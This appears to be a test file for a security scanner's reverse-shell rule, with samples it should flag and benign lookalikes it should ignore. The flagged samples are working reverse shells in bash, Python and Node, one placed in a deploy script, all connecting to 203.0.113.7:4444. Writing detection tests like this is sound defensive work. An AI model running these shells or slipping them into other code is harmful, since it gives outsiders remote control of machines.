from _kit import fires, silent, sample

fires("shell_script_dev_tcp", "reverse_shell", "critical",
      sample("deploy.sh", "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"), "scripts/deploy.sh", "755")
fires("python_pty_socket", "reverse_shell", "critical",
      sample("helper.py", "import socket, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
             "s.connect(('203.0.113.7', 4444))\n[__import__('os').dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')\n"),
      "tools/helper.py")
fires("node_net_spawn", "reverse_shell", "critical",
      sample("net.js", "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n"
             "var client = new net.Socket();\nclient.connect(4444, '203.0.113.7', function () {\n"
             "  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);\n});\n"),
      "lib/net.js")
silent("reverse_shell_in_docs", "reverse_shell",
       sample("security.md", "# Detecting reverse shells\n\nA classic one-liner:\n\n    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
       "docs/security.md")
silent("python_cgi_dup2", "reverse_shell",
       sample("cgi.py", "import os, select\n\ndef run_cgi(self):\n    os.dup2(self.rfile.fileno(), 0)\n    os.dup2(self.wfile.fileno(), 1)\n    os.execve(scriptfile, args, env)\n"),
       "lib/cgi.py")
silent("python_socket_server", "reverse_shell",
       sample("server.py", "import socket, pty, os\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('127.0.0.1', port))\n"
              "    s.listen()\n\ndef shell():\n    pid, fd = pty.fork()\n    return fd\n"),
       "tools/server.py")
